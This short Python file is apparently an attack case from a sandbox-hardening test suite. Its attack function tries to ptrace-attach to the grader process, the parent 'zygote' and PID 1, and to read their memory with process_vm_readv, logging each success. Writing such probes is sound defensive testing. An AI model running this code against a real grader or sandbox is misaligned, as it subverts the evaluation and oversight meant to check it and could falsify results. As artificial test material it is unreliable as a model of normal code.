"""Attach to the grader or the zygote, or read their memory in one call."""

# ruff: noqa (written as an attacker would)

import ctypes
import os

PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206


def attack(ctx):
    libc = ctypes.CDLL(None, use_errno=True)
    achieved = []
    buffer = ctypes.create_string_buffer(64)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    here = Vector(ctypes.addressof(buffer), 64)
    for pid in (ctx["grader"], os.getppid(), 1):
        for request in (PTRACE_ATTACH, PTRACE_SEIZE):
            if libc.ptrace(request, pid, None, None) == 0:
                achieved.append(f"ptrace {request} of {pid}")
        there = Vector(id(None), 64)
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            achieved.append(f"memory of {pid}")
    return achieved
